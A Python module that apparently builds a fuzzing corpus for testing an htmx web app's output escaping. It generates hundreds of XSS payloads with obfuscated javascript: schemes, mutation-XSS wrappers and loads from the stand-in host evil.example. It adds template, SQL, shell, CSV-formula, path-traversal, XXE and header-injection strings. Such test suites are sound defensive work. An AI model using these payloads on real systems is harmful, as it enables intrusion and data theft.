"""Several hundred ways to mean harm, put together from parts: what runs, how it breaks out, how it is spelled.

Whatever would run sets `hacked`; whatever would load asks for `evil.example`.
"""

from __future__ import annotations

import base64
from collections.abc import Iterator
from itertools import product
from urllib.parse import quote

ACT = "hacked=1"
SCRIPT = f"<script>{ACT}</script>"

_RUNNERS = (
    "script", "img src=x onerror", "svg onload", "body onload", "input autofocus onfocus",
    "select autofocus onfocus",
    "textarea autofocus onfocus", "a href=# tabindex=0 autofocus onfocus", "details open ontoggle",
    "iframe onload",
    "video src=x onerror", "audio src=x onerror", "object data=x onerror", "embed src=x onload", "style onload",
    "link rel=stylesheet href=x onerror", "marquee onstart", "div style=animation:x onanimationstart",
    "p contenteditable autofocus onfocus", "svg><animate attributeName=x dur=1s onbegin",
    "video><source onerror",
    "form><button autofocus onfocus", "dialog open autofocus onfocus", "x-y tabindex=1 autofocus onfocus",
)  # fmt: skip
_BREAKS = (
    "", '">', "'>", "`>", "-->", "]]>", "</title>", "</textarea>", "</style>", "</script>",
    "</noscript>", "</select>",
    "</template>", "</svg>", "</math>", '" x="', "' x='", "/>", "%3E", "\\x3e",
)  # fmt: skip
_SPELLED = (
    "javascript:{}", "JaVaScRiPt:{}", "java\tscript:{}", "java\nscript:{}", " javascript:{}",
    "\x01javascript:{}",
    "javascript&colon;{}", "java&Tab;script:{}", "&#106;avascript:{}", "&#x6A;avascript:{}",
    "javascript://%0a{}",
    "javascript:void({})", "vbscript:{}", "data:text/html,<script>{}</script>", "view-source:javascript:{}",
    "livescript:{}", "blob:javascript:{}", "feed:javascript:{}",
)  # fmt: skip
_CARRIERS = (
    '<a href="{}">x</a>', '<iframe src="{}"></iframe>', '<form action="{}"><button>x</button></form>',
    '<object data="{}"></object>', '<embed src="{}">', '<meta http-equiv=refresh content="0;url={}">',
    '<base href="{}">', '<svg><a xlink:href="{}"><text y=9>x</text></a></svg>', '<button formaction="{}">x</button>',
    '<math><mi href="{}">x</mi></math>', '<img src="{}">', '<link rel=import href="{}">',
)  # fmt: skip
_WRAPPERS = (
    "math><mtext", "math><annotation-xml encoding='text/html'", "svg><desc", "svg><foreignObject", "svg><style",
    "table><caption", "select><option", "template", "noscript", "xmp", "noembed", "noframes",
    "plaintext", "title",
    "textarea", "style", "iframe", "!--", "math><mtext><table><mglyph><style", "form><math><mtext></form><form",
)  # fmt: skip
_OUTSIDE = (
    "<img src=https://evil.example/p.gif>", "<img srcset='https://evil.example/p.gif 1x'>",
    "<link rel=stylesheet href=https://evil.example/x.css>", "<link rel=dns-prefetch href=//evil.example>",
    "<link rel=preload as=image href=https://evil.example/p>", "<style>@import '//evil.example/x.css'</style>",
    "<style>@font-face{font-family:x;src:url(//evil.example/f)}</style>",
    "<p style='background:url(//evil.example/b)'>",
    "<table background=//evil.example/t>", "<video poster=//evil.example/v>", "<audio src=//evil.example/a>",
    "<input type=image src=//evil.example/i>", "<svg><image href=//evil.example/s /></svg>",
    "<svg><use href=//evil.example/u#x /></svg>", "<iframe src=//evil.example></iframe>",
    "<object data=//evil.example/o></object>", "<track src=//evil.example/t>",
    "<script src=//evil.example/x.js></script>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<form action=//evil.example><input autofocus></form>",
    "<a ping=//evil.example href=#>x</a>", "<body background=//evil.example/b>",
    "<frameset><frame src=//evil.example>",
    "<portal src=//evil.example></portal>",
    "<math><maction actiontype='statusline#//evil.example'>x</maction></math>",
)  # fmt: skip
_OURS = (
    "<p hx-get=//evil.example hx-trigger=load>", "<p data-hx-get=//evil.example data-hx-trigger=load>",
    f"<p hx-on:click={ACT} hx-trigger=load>", f"<p hx-on--load='{ACT}'>",
    "<p hx-vals='js:{x:(hacked=1)}' hx-get=/>",
    "<p hx-get=/ hx-target=body hx-trigger=load>", "<p hx-ext=x>",
    "<meta name=htmx-config content='{\"allowEval\":true}'>",
    "<tr data-row><td><a data-open href=//evil.example>", "<button data-do formaction=/queue/assign>",
    "<details data-key=a open><form method=post action=/signout><input></form></details>",
    "<input name=form_token value=x>", "<dialog id=keys open>", "<main id=main>", "</main></body></html>",
    "{{ 7*7 }}", "{% for x in y %}", "{{ ''.__class__.__mro__ }}", "{# x #}", "${7*7}", "#{7*7}",
    "<%= 7*7 %>", "[[7*7]]",
    "=1+1", "+cmd|' /C calc'!A0", "@SUM(A1)", "-2+3", "\t=1", '=HYPERLINK("https://evil.example")',
)  # fmt: skip
_TEXTS = (
    "", " ", "\u00a0", "\u3000", "\u200b\u200c\u200d\u2060\ufeff", "\u202e\u202d\u202a\u202c",
    "\u2066x\u2069", "\u00ad",
    "\u0000", "\u0007\u0008\u001b[31m", "\r\n\r\nX: y", "\u2028\u2029", "\ud800", "\ufffe\uffff",
    "\U000e0001", "Z\u0351\u0362",
    "e" + "\u0301" * 60, "👩‍👩‍👧‍👦🏳️‍🌈🇩🇪", "𝕿𝖍𝖊", "ﷺ", "ǅ ﬀ ß İ ı", "田中さん 部落格 사회과학원",
    "مُنَاقَشَة שָׁלוֹם", "เขียน", "ᚠᛇᚻ", "½ ⅓ ² ₂ ٣ ५",
    "undefined", "null", "NaN", "Infinity", "-0", "1e999", "0x10", "true", "None", "nil",
    "9" * 400, "1,5.0'0", "١٢٣",
    "' OR 1=1 --", '"; DROP TABLE mail; --', "%' ESCAPE '", "_%\\", "1;SELECT pg_sleep(9)", "\\",
    "\\\\x", "'\"`",
    "../../etc/passwd", "C:\\CON", "file:///etc/passwd", "/dev/null", ".htaccess", "%00",
    "%0d%0aSet-Cookie:x=1", "%2e%2e%2f",
    "$(touch x)", "`touch x`", "; touch x", "| touch x", "{0.__class__}", "%s%n%x", "%d", "{}", "{0}", "%(x)s",
    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]><x>&y;</x>',
    "<![CDATA[x]]>", "<?php x ?>",
    "&", "&amp;", "&lt;b&gt;", "&#60;b&#62;", "&nosuch;", "&#0;", "&#xD800;", "<", ">", "<>", "<b",
    "</b", "<!", "<?",
    "To: x@evil.example", "=?utf-8?q?=3Cscript=3E?=", "x" * 5000, "word " * 400, "\n" * 50, "a\tb\vc\fd",
)  # fmt: skip


def forms() -> tuple[str, ...]:
    """Return every form, each once."""
    return tuple(dict.fromkeys((*_running(), *_leading(), *_nested(), *_encoded(), *_OUTSIDE, *_OURS, *_TEXTS)))


def _running() -> Iterator[str]:
    """What runs when it is shown, behind whatever it may have to break out of."""
    for broken, runner in product(_BREAKS, _RUNNERS):
        yield f"{broken}{SCRIPT}" if runner == "script" else f"{broken}<{runner}={ACT}>"


def _leading() -> Iterator[str]:
    """What runs when it is followed."""
    for spelled, carrier in product(_SPELLED, _CARRIERS):
        yield carrier.format(spelled.format(ACT))


def _nested() -> Iterator[str]:
    """What is one thing to one parser and another to the next."""
    for wrapper in _WRAPPERS:
        name = wrapper.rpartition("<")[2].split()[0]
        for inner in (f"<img src=x onerror={ACT}>", SCRIPT, f"<svg onload={ACT}>"):
            yield f"<{wrapper}>{inner}"
            yield f'<{wrapper}><p id="</{name}>{inner}">'
            yield f"<{wrapper}><!--</{name}>{inner}-->"


def _encoded() -> Iterator[str]:
    """The same script, spelled so that something undoes the spelling."""
    yield "".join(f"&#{ord(char)};" for char in SCRIPT)
    yield "".join(f"&#x{ord(char):X}" for char in SCRIPT)
    yield quote(SCRIPT)
    yield quote(quote(SCRIPT))
    yield "".join(f"\\u{ord(char):04x}" for char in SCRIPT)
    yield "".join(f"\\x{ord(char):02x}" for char in SCRIPT)
    yield "".join(chr(ord(char) + 0xFEE0) if "!" <= char <= "~" else char for char in SCRIPT)
    yield f"data:text/html;base64,{base64.b64encode(SCRIPT.encode()).decode()}"
    yield SCRIPT.replace("<", "+ADw-").replace(">", "+AD4-")
    yield SCRIPT.replace("s", "\u017f")
    yield SCRIPT.replace("<", "<\u0000")
    yield SCRIPT.upper()
    yield SCRIPT.replace("script", "scr<script>ipt")
    yield SCRIPT.replace("<", "\u2039").replace(">", "\u203a")
    yield f"<script\n>{ACT}</script\t x>"
    yield f"<script/x>{ACT}</script>"
    yield f"<{ACT}//<script>"
